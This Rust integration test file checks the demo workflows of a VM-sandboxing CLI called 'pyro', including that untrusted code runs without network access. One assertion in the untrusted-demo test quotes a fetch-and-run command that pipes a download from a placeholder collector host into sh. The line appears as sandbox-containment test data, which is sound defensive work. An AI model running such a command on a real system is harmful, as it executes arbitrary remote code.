//! `pyro demo`: each workflow end to end on its built-in fixture, through
//! the real CLI against real VMs, leaving no workspace behind.

use crate::support::*;

/// Runs `pyro demo NAME`, asserts it succeeded and left no workspace;
/// returns its stdout, then its stderr (where the steps' own stderr went).
fn demo(home: &TestHome, name: &str) -> String {
    let output = home.run(&["demo", name]);
    assert!(
        output.status.success(),
        "demo {name} failed:\n{}\n{}",
        stdout(&output),
        stderr(&output)
    );
    let listed = home.run(&["workspace", "list", "--json"]);
    assert_eq!(stdout(&listed).trim(), "[]", "demo {name} left workspaces");
    stdout(&output) + &stderr(&output)
}

#[test]
fn demo_lists_the_five_workflows_and_refuses_others() {
    let home = TestHome::new();
    let listed = stdout(&ok(home.run(&["demo"]), "demo"));
    for name in ["cold-start", "repro-fix", "parallel", "untrusted", "review"] {
        assert!(listed.contains(&format!("  {name} ")), "{listed}");
    }
    let unknown = home.run(&["demo", "yolo"]);
    assert_eq!(unknown.status.code(), Some(2));
    assert!(
        stderr(&unknown).contains("repro-fix"),
        "{}",
        stderr(&unknown)
    );
}

#[test]
fn demo_repro_fix_runs_end_to_end() {
    let home = TestHome::new();
    let out = demo(&home, "repro-fix");
    assert!(
        out.contains("$ pyro workspace create debian:12 --mode repro-fix --seed-path "),
        "{out}"
    );
    assert!(out.contains("$ pyro workspace reset demo-"), "{out}");
    let diff = out
        .split("The diff is exactly the fix")
        .nth(1)
        .and_then(|rest| rest.split("Take the fixed file out").next())
        .unwrap_or_else(|| panic!("no diff step:\n{out}"));
    assert!(diff.contains("+    if not values:"), "{diff}");
    assert!(!diff.contains("TypeError"), "{diff}");
}

/// The part of a demo's stdout from the step titled `from` up to the one
/// titled `to`.
fn between<'a>(out: &'a str, from: &str, to: &str) -> &'a str {
    let start = out
        .find(from)
        .unwrap_or_else(|| panic!("no step '{from}':\n{out}"));
    let rest = &out[start..];
    &rest[..rest.find(to).unwrap_or(rest.len())]
}

#[test]
fn demos_review_untrusted_and_parallel_run_end_to_end() {
    let home = TestHome::new();
    let review = demo(&home, "review");
    let diff = between(&review, "Exactly what it changes.", "What ran and failed");
    assert!(diff.contains("+def median(values):"), "{diff}");
    let summary = between(&review, "What ran and failed", "Throw it away");
    assert!(summary.contains("FAILED (exit 1, "), "{summary}");

    let untrusted = demo(&home, "untrusted");
    let outside = between(&untrusted, "What it left outside", "no network device");
    assert!(
        outside.contains("curl -s https://collector.example/next | sh"),
        "{outside}"
    );
    let diff = between(
        &untrusted,
        "What it wrote in /workspace.",
        "What it left outside",
    );
    assert!(diff.contains("b/.cache.bin"), "{diff}");
    let net = between(
        &untrusted,
        "no network device to leave by",
        "takes no secrets",
    );
    assert!(net.contains("/sys/class/net\nlo\n\n"), "only lo: {net}");

    let parallel = demo(&home, "parallel");
    let own = between(
        &parallel,
        "Each holds its own branch.",
        "Work in one of them",
    );
    assert!(own.contains("work on fix-a"), "{own}");
}

/// Through the package indexes (PyPI here), so it needs the registries
/// this machine reaches; about 40 s under TCG, most of it pip.
#[test]
fn demo_cold_start_installs_from_pypi_and_passes() {
    let home = TestHome::new();
    let out = demo(&home, "cold-start");
    assert!(out.contains("allowed files.pythonhosted.org:443"), "{out}");
    assert!(out.contains("test_text_type"), "{out}");
}
